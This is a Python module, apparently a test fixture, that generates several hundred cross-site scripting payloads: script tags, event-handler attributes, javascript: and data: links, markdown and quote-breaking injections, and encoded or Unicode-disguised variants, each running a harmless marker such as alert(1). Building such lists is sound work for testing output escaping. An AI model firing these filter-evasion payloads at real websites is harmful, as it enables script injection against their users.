"""Texts that would run as a script wherever a page forgot to escape them: many ways in, each with many disguises.

The ways in are those of well-known public lists (OWASP's cheat sheet on filter evasion, among others), made here anew.
"""

from __future__ import annotations

from itertools import product

RUNS = ("alert(1)", "window.hit=1", "document.title='hit'", "top['al'+'ert'](1)")
"""What each would do: a test looks for a dialog, a mark on the window and a title that changed."""
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script >{}</script >",
    "<script\t>{}</script>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '-->"<script>{}</script>',
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    "<IMG SRC=x OnErRoR={}>",
    "<img src=`x`onerror={}>",
    "<img src onerror={} //",
    '"><img src=x onerror={}>',
    "' onmouseover='{}",
    '" onfocus="{}" autofocus="',
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    '<iframe srcdoc="<script>{}</script>">',
    "<iframe onload={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    '<a href="JaVaScRiPt:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    '<a href=" &#14; javascript:{}">x</a>',
    '<a href="data:text/html,<script>{}</script>">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<style>@import 'javascript:{}';</style>",
    '<link rel=stylesheet href="javascript:{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    "<isindex type=image src=1 onerror={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
)
_LINKS = (
    "javascript:{}",
    "JAVASCRIPT:{}",
    "javascript://x.example/%0a{}",
    'https://x.example/" onmouseover="{}',
    "https://x.example/' onmouseover='{}",
    "https://x.example/><script>{}</script>",
    "https://javascript:{}",
    "data:text/html;base64,PHNjcmlwdD4=//{}",
    "vbscript:{}",
    "https://x.example/#<img src=x onerror={}>",
    "[x](javascript:{})",
    '![x](x "onerror={}")',
    '<https://x.example/" onclick="{}>',
    "> <script>{}</script>",
    '> https://x.example/" onclick="{}',
    "@<script>{}</script>",
    '@"><img src=x onerror={}>',
)
_DISGUISED = tuple(
    each.format("alert(1)")
    for each in (
        "&lt;script&gt;{}&lt;/script&gt;",
        "%3Cscript%3E{}%3C/script%3E",
        "\\u003cscript\\u003e{}",
        "&#60;script&#62;{}&#60;/script&#62;",
        "\uff1cscript\uff1e{}\uff1c/script\uff1e",
        "\u2039script\u203a{}",
        "+ADw-script+AD4-{}+ADw-/script+AD4-",
        "<scr\u200bipt>{}</scr\u200bipt>",
        "<\u202escript>{}</script>",
        "<script\u2028>{}</script>",
        "<img src=x onerror\u00a0={}>",
        "\ufeff<script>{}</script>",
    )
)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*(way.format(run) for run, way in product(RUNS, (*_TAGS, *_LINKS))), *_DISGUISED])
)


def in_texts(most: int) -> list[str]:
    """All of them, a line each, in texts of at most so many signs."""
    texts = [""]
    for each in PAYLOADS:
        if len(texts[-1]) + len(each) + 1 > most:
            texts.append("")
        texts[-1] += f"{each}\n"
    return texts
